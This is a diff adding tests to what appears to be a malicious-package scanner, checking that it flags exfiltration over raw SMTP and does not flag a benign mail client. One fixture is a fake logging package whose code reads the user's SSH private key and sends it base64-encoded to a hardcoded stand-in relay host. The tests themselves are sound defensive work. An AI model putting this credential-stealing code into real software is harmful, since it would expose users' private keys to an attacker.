@@ -306,3 +306,51 @@ describe('the CMake reader', () => {
     expect(loop).toEqual([{ line: 3, text: 'X=1', file: 'a.cmake' }]);
   });
 });
+
+describe('exfiltration over channels other than an HTTP POST (round 82)', () => {
+  const mailer = (relay: string, extra: string[] = []) => ({
+    'package.json': JSON.stringify({ name: 'rotating-log-stream', version: '2.0.1', main: 'index.js' }),
+    'index.js': [
+      "const net = require('net');",
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      'function talk(to, lines) {',
+      '  const conn = net.connect(to.port, to.host);',
+      "  conn.on('data', () => {",
+      '    const line = lines.shift();',
+      "    if (line) conn.write(line + '\\r\\n'); else conn.end();",
+      '  });',
+      '}',
+      relay,
+      'exports.start = () => {',
+      "  const keys = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8');",
+      "  talk(RELAY, ['HELO relay', 'MAIL FROM:<a@b>', 'DATA', Buffer.from(keys).toString('base64'), '.', 'QUIT']);",
+      '};',
+      ...extra,
+    ].join('\n'),
+  });
+
+  it('follows what a socket data handler takes off a list, one line per reply, to a raw SMTP relay', () => {
+    const r = analyzeSource(mailer("const RELAY = { host: '203.0.113.25', port: 2525 };"));
+    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.85);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('does not count a host read from the environment as one the file writes', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'tiny-smtp', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "const net = require('net');",
+        "const os = require('os');",
+        'exports.connect = (opts = {}) => {',
+        "  const host = opts.host || process.env.SMTP_HOST || 'localhost';",
+        '  const sock = net.connect({ host, port: opts.port || 25 });',
+        "  sock.write('EHLO ' + (opts.name || os.hostname()) + '\\r\\n');",
+        '  return sock;',
+        '};',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence ?? 0).toBeLessThan(0.5);
+    expect(r.risk_level).toBe('clean');
+  });
+});
